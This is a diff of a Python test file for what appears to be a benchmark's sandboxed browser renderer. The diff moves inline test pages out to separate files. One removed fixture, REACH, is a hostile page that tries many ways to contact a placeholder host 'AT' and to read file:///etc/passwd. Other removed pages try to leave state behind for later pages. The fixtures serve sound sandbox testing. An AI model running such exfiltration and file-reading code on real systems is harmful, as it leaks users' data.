@@ -13,21 +13,11 @@ import time
 import pytest
 
 import colbench.browser as renderer
-from colbench import ColBenchError
-from colbench.browser import (
-    Browser,
-    BrowserThread,
-    local_file,
-    PAGE_START,
-    photo,
-    Render,
-    screenshot_path,
-    stored_render,
-    style_rules,
-    style_sheet,
-    write_fonts,
-)
+from colbench import ColBenchError, published
+from colbench.browser import Browser, BrowserThread, PAGE_START, Render, screenshot_path
 
+PAGES = pathlib.Path(__file__).parent / "pages"
+MOVING, REACH, LEAVE, FIND = ((PAGES / f"{name}.html").read_text() for name in ("moving", "reach", "leave", "find"))
 pytest.importorskip("playwright", reason="no playwright: pip install -r scripts/frontend.txt")
 
 
@@ -128,23 +118,6 @@ def data(path):
 # ---------------------------------------------------------------------------------------------------------------------
 # pictures
 
-MOVING = """<!DOCTYPE html><style>@keyframes go {from {margin-left: 0} to {margin-left: 300px}}
-@keyframes spin {to {transform: rotate(1turn)}} .a {animation: go 1s forwards} .b {animation: spin 1s infinite}
-.c {transition: margin 3s} .c.on {margin-left: 200px}</style>
-<div class=a>a</div><div class=b>b</div><div class=c>c</div><div id=d>d</div><marquee>marquee</marquee><input autofocus>
-<svg width=90 height=20><circle r=9 cy=10>
-<animate attributeName=cx from=0 to=90 dur=2s repeatCount=indefinite /></circle></svg>
-<p id=e></p><canvas></canvas><script>
-document.querySelector(".c").classList.add("on");
-d.animate({marginLeft: ["0px", "100px"]}, {duration: 1500, fill: "forwards"});
-e.textContent = [new Date(), Date(), Date.now(), performance.now(), Math.random(),
-                 crypto.getRandomValues(new Uint8Array(4))];
-let n = 0; setInterval(() => e.append(` ${++n}`), 300);
-setTimeout(() => e.append(" late"), 1000); setTimeout("e.append(' text')", 1)
-requestAnimationFrame(function step(t) { canvas = document.querySelector("canvas").getContext("2d");
-                                         canvas.fillRect(t / 10, n, 3, 3); requestAnimationFrame(step); });</script>"""
-
-
 def test_a_picture(render, browser, tmp_path):
     result = render(PLAIN)
     assert result.fault is None and result.spec is None
@@ -189,27 +162,7 @@ def test_a_picture_that_is_there_needs_no_browser(tmp_path):
 # Each page that could leave something in the window stands before one that would show it: the colours of links, the
 # style sheet that a title chose, colour scheme, fonts and rules by name, direction, sizes, quirks, form fields,
 # pictures and sheets in the cache, what was visited, what moves.
-SEQUENCE = ["<body link=red vlink=red text=red>a<a href=''>b</a>", "<a href=''>link</a>",
-            "<style title=a>p {color: red}</style><p>a", "<style title=b>p {color: blue}</style><p>b",
-            """<style>:root {color-scheme: dark} @font-face {font-family: X; src: local('Liberation Mono')}
-            @property --c {syntax: '<color>'; inherits: false; initial-value: red}
-            @keyframes go {to {margin-left: 300px}} @layer a, b; @layer a, b {}
-            @counter-style cc {system: cyclic; symbols: '#'} li {font-family: X; animation: go 1s forwards;
-            list-style: cc}
-            </style><li>a""",
-            """<style>@layer b {li {background: red}} @layer a {li {background: lime}} li {font-family: X;
-            color: var(--c, blue); animation: go 1s forwards; list-style: cc}</style><li>Wim<input><button>b""",
-            "<!DOCTYPE html><html dir=rtl style='writing-mode:vertical-rl;font-size:40px;overflow:hidden'>"
-            "<div style='width:1500px;height:1500px'>a", "<body style='font-size:50px'><table><td>quirks</table>",
-            "<!DOCTYPE html><body style='font-size:2rem'><table><td>none</table><div style='height:100vh;width:100vw'>",
-            """<input value=a><input type=checkbox checked><details open>a</details><a href=https://placehold.co/60x40>b
-            </a><img src=https://placehold.co/60x40><img src=https://no.example/1.png alt=no>""",
-            """<input><input type=checkbox><details>a</details><a href=https://placehold.co/60x40>b</a><a
-            href=about:blank>c</a><img src=https://placehold.co/60x40><img src=https://no.example/1.png alt=no>""",
-            """<style>div {content-visibility: auto; contain-intrinsic-size: 9px 900px}
-            @keyframes go {from {opacity: 0}} p {animation: go linear; animation-timeline: scroll()}</style><p>a
-            <div>a</div><div>b</div><marquee>c""",
-            "<p onclick='1'>a<script>document.title = scrollY</script>"]
+SEQUENCE = (PAGES / "sequence.txt").read_text().removesuffix("\n").split("\n----\n")
 SHEET = [f"<style>@\\69mport 'https://unpkg.com/tailwindcss@2.2.19/dist/tailwind.min.css'</style><p class={name}>a"
          for name in ("p-4", "pl-8")]
 
@@ -253,7 +206,7 @@ def test_cut(render, browser, tmp_path):
     result = render(page)
     assert result.fault == "width 9,000 px cut to 2,560; height 200,000 px cut to 8,192"
     assert picture(result.image).size == (2560, 8192) and render(page) == result
-    assert stored_render(result.image) == result
+    assert renderer.stored_render(result.image) == result
 
 
 def test_too_large(render):
@@ -264,7 +217,7 @@ def test_too_large(render):
 
 def test_fonts(value):
     """All names end at Liberation; nothing of the machine's other fonts is in a picture."""
-    if not write_fonts(os.environ.get("TMPDIR", "/tmp")):
+    if not renderer.write_fonts(os.environ.get("TMPDIR", "/tmp")):
         pytest.skip("no Liberation fonts: apt-get install fonts-liberation")
     width = "(() => { const c = document.createElement('canvas').getContext('2d'); return ['sans-serif', 'Arial', " \
             "'Verdana, system-ui', 'serif', 'Nothing', 'monospace', 'Courier New'].map(f => (c.font = '100px ' + f, " \
@@ -277,13 +230,25 @@ def test_fonts(value):
 # addresses
 
 @pytest.mark.parametrize("address, size", [
-    ("https://picsum.photos/id/48/300/200", (300, 200)), ("https://picsum.photos/seed/a7/40/30.jpg?blur", (40, 30)),
-    ("https://picsum.photos/250", (250, 250)), ("https://source.unsplash.com/random/640x480?sea", (640, 480)),
-    ("https://source.unsplash.com/random", (1080, 720)), ("https://via.placeholder.com/150", (150, 150)),
-    ("https://via.placeholder.com/350x65/FF0000/FFFFFF?text=9x9", (350, 65)),
-    ("https://placehold.co/600x400.png", (600, 400))])
+    ("https://picsum.photos/id/48/300/200", "300x200"), ("https://picsum.photos/seed/a7/40/30.jpg?blur", "40x30"),
+    ("https://picsum.photos/250", "250x250"), ("https://source.unsplash.com/random/640x480?sea", "640x480"),
+    ("https://source.unsplash.com/random/300x200/?bakery,tea", "300x200"),
+    ("https://source.unsplash.com/random", None), ("https://via.placeholder.com/150", "150x150"),
+    ("https://via.placeholder.com/350x65/FF0000/FFFFFF?text=9x9", "350x65"),
+    ("//placehold.co/600x400.png?text=Tea", "600x400"), ("https://loremflickr.com/320/240/dog", "320x240"),
+    ("https://dummyimage.com/600x400/000/fff", "600x400"), ("https://a.com/photo-12-34?w=50&amp;h=40", "50x40"),
+    ("https://source.unsplash.com/random/?sea", None), ("https://a.com/2020/05/x.jpg", None)])
 def test_photo_sizes(address, size):
-    assert f'width="{size[0]}" height="{size[1]}"' in photo(address)
+    """The size that an address asks for, in what the browser draws there, and in a page of WebSight."""
+    asked = renderer.photo_size(address)
+    assert (asked and "x".join(asked)) == size
+    width, height = asked or ("1080", "720")
+    assert f'width="{width}" height="{height}"' in renderer.photo(address)
+    width, height = asked or ("640", "480")
+    photo = f"https://picsum.photos/id/48/{width}/{height}"
+    page = '<img class="a" src="{0}"><p style="background: url({0})"></p><style>a {{background: url(\'{0}\')}}</style>'
+    assert published.one_photo(page.format(address)) == page.format(photo)
+    assert published.one_photo(page.format(photo)) == page.format(photo)
 
 
 def test_photos(value, render, browser):
@@ -321,10 +286,10 @@ def test_rules_left_out(render, browser, monkeypatch):
     animate-pulse">b</i></p><ul class="divide-y list-disc container group"><li class='group-hover:p-9
     placeholder-gray-500'>c<li class=bg&#45;red-500>d</ul><input placeholder=x class="placeholder-red-500 border
     focus:ring-2"><table><tr><td>e</table>"""
-    path = local_file("https://unpkg.com/tailwindcss@2.2.19/dist/tailwind.min.css")
-    assert 6_000 < len(style_sheet(path, page)) < 7_000
-    assert len(style_sheet(path, page + "<script>")) == path.stat().st_size == 2_934_019
-    assert "".join(text for text, _ in style_rules(path)) == path.read_text()
+    path = renderer.local_file("https://unpkg.com/tailwindcss@2.2.19/dist/tailwind.min.css")
+    assert 6_000 < len(renderer.style_sheet(path, page)) < 7_000
+    assert len(renderer.style_sheet(path, page + "<script>")) == path.stat().st_size == 2_934_019
+    assert "".join(text for text, _ in renderer.style_rules(path)) == path.read_text()
     for page in (page, "<!DOCTYPE html>" + page):                                                     # noqa: B020
         result = render(page)
         image = data(result.image)
@@ -344,46 +309,6 @@ def test_tailwind_missing(render, browser, tmp_path, monkeypatch):
 
 # ---------------------------------------------------------------------------------------------------------------------
 # hostile pages: they reach nothing, and the next page is drawn
-
-REACH = """<!DOCTYPE html><head><link rel=preconnect href=http://AT><link rel=dns-prefetch href=//AT>
-<link rel=prefetch href=http://AT/1><link rel=stylesheet href=http://AT/2><link rel=preload as=image href=http://AT/3>
-<link rel=modulepreload href=http://AT/4><link rel=icon href=http://AT/i><script type=speculationrules>{"prefetch":
-[{"source": "list", "urls": ["http://AT/5"]}], "prerender": [{"source": "list", "urls": ["http://AT/6"]}]}</script>
-</head><body ping=http://AT><img src=http://AT/7><iframe src=http://AT/8></iframe><iframe
-srcdoc="<img src=http://AT/9>"></iframe><iframe src="file:///etc/passwd"></iframe><img src=file:///etc/passwd>
-<object data=http://AT/10></object><embed src=http://AT/11><video autoplay src=http://AT/12></video><style>
-@import "http://AT/13"; @font-face {font-family: x; src: url(http://AT/14)} p {background: url(http://AT/15);
-font-family: x}</style><p>text</p><form id=f action=http://AT/16 method=post target=_blank></form><a id=a
-href=http://AT/17 target=_blank ping=http://AT/18>x</a><a id=d
-href=http://AT/19 download>x</a><p id=out></p><script>
-const log = text => out.append(text + ";"), at = "AT", tries = {
-  fetch: () => fetch(`http://${at}/20`, {mode: "no-cors", keepalive: true}).then(() => log("fetch"), () => 0),
-  file: () => fetch("file:///etc/passwd").then(() => log("file"), () => 0),
-  xhr: () => { const x = new XMLHttpRequest(); x.onload = () => log("xhr");
-               x.open("GET", `http://${at}/21`); x.send(); },
-  beacon: () => navigator.sendBeacon(`http://${at}/22`, "x"),
-  socket: () => { new WebSocket(`ws://${at}/23`).onopen = () => log("socket"); },
-  events: () => { new EventSource(`http://${at}/24`).onopen = () => log("events"); },
-  transport: () => new WebTransport(`https://${at}/25`).ready.then(() => log("transport"), () => 0),
-  rtc: () => { const c = new RTCPeerConnection({iceServers: [{urls: `stun:${at}`}]}); c.createDataChannel("x");
-               c.createOffer().then(o => c.setLocalDescription(o)); },
-  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("http://${at}/26"); new WebSocket("ws://${at}/27")`]))),
-  importing: () => import(`http://${at}/28`).catch(() => 0),
-  service: () => navigator.serviceWorker.register(`http://${at}/29`).then(() => log("service"), () => 0),
-  popup: () => { if (window.open(`http://${at}/30`)) log("popup"); },
-  oldpopup: () => { if (Window.prototype.open) Window.prototype.open.call(window, `http://${at}/30`); },
-  click: () => a.click(), download: () => d.click(), form: () => f.submit(),
-  frame: () => { const i = document.createElement("iframe"); i.src = "javascript:0"; document.body.append(i);
-                 new i.contentWindow.WebSocket(`ws://${at}/31`);
-                 i.contentWindow.fetch(`http://${at}/32`).catch(() => 0);
-                 new i.contentWindow.RTCPeerConnection({iceServers: [{urls: `stun:${at}`}]}).createDataChannel("y"); },
-  dialogs: () => { for (let i = 0; i < 1000; i++) { alert(i); confirm(i); prompt(i); } },
-  leave: () => { onbeforeunload = event => { event.preventDefault(); return "stay"; };
-                 location = "file:///etc/passwd"; },
-  leave2: () => { location.href = `http://${at}/33`; }};
-for (const name in tries) try { tries[name](); } catch (error) {}
-</script><meta http-equiv=refresh content="0; url=http://AT/34">"""
-
 
 RTC = """<script>const c = new RTCPeerConnection({iceServers: [{urls: "stun:AT"}]}); c.createDataChannel("x");
 c.createOffer().then(offer => c.setLocalDescription(offer));</script>"""
@@ -465,29 +390,6 @@ def test_harmless(value, page, text):
     assert "".join(value(page, "document.body.innerText").split()) == text
 
 
-LEAVE = """<p>a<script>window.mark = 1; name = "mark"; Array.prototype.mark = 1; document.mark = 1;
-for (const set of [() => { document.cookie = "mark=1" }, () => { localStorage.mark = 1 },
-                   () => { sessionStorage.mark = 1 }, () => history.pushState("mark", ""),
-                   () => { indexedDB.open("mark") }, () => caches.open("mark"),
-                   () => navigator.serviceWorker.register("data:text/javascript,1"),
-                   () => { new BroadcastChannel("mark").postMessage("mark") }]) try { set() } catch (error) {}
-setInterval(() => { document.title = "mark" }, 1); onunload = () => { name = "mark" };
-setTimeout(() => new BroadcastChannel("mark").postMessage("mark"), 100);
-new Worker(URL.createObjectURL(new Blob(["setInterval(() => new BroadcastChannel('mark').postMessage('mark'), 1)"])));
-new BroadcastChannel("mark").onmessage = e => e; onmessage = () => { document.title = "mark" };
-location.hash = "mark"; history.replaceState("mark", "");
-document.documentElement.requestFullscreen?.().catch(() => 0);</script>
-<div style="height:5000px"></div><script>scrollTo(0, 9999)</script>"""
-FIND = """<p id=a><script>const found = [];
-new BroadcastChannel("mark").onmessage = () => { found.push("channel"); };
-setTimeout(() => { for (let i = 0; i < 1e8; i++); }, 500);          // messages travel in real time, timers do not wait
-setTimeout(() => { for (const [what, get] of Object.entries({global: () => window.mark, name: () => name,
-  array: () => [].mark, document: () => document.mark, cookie: () => document.cookie, local: () => localStorage.mark,
-  title: () => document.title, session: () => sessionStorage.mark, history: () => history.length > 1,
-  state: () => history.state, hash: () => location.hash, scroll: () => scrollY})) try {
-  if (get()) found.push(what + get()); } catch (error) {} a.textContent = found; }, 1000)</script>"""
-
-
 def test_nothing_left_behind(value, loop, browser):
     found = value(LEAVE + FIND, "a.textContent")                    # on one page, so that its silence means something
     assert set(found.split(",")) == {                               # cookies are denied to every page
@@ -547,15 +449,17 @@ def test_killed(tmp_path):
     assert [path.suffix for path in tmp_path.iterdir()] == [".png"] * 5
 
 
-def test_no_browser(tmp_path, monkeypatch):
-    with pytest.raises(ColBenchError, match="--browser /nowhere/chromium: no such program"):
-        render_pages([PLAIN], tmp_path, path="/nowhere/chromium")
-    with pytest.raises(ColBenchError, match="/bin/false: does not start"):
-        render_pages([PLAIN], tmp_path, path="/bin/false")
+@pytest.mark.parametrize("browser, line", [
+    ("/nowhere/chromium", "--browser /nowhere/chromium: no such program"), ("/bin/false", "/bin/false: does not start"),
+    (None, "apt-get install chromium")])
+def test_no_browser(browser, line, tmp_path, monkeypatch):
     monkeypatch.setattr(renderer, "BROWSERS", ())
     monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path))
-    with pytest.raises(ColBenchError, match="apt-get install chromium"):
-        render_pages([PLAIN], tmp_path)
+    with pytest.raises(ColBenchError, match=line):
+        render_pages([PLAIN], tmp_path, browser)
+
+
+def test_no_playwright(tmp_path, monkeypatch):
     monkeypatch.setitem(sys.modules, "playwright.async_api", None)
     with pytest.raises(ColBenchError, match="pip install -r scripts/frontend.txt"):
         render_pages([PLAIN], tmp_path)
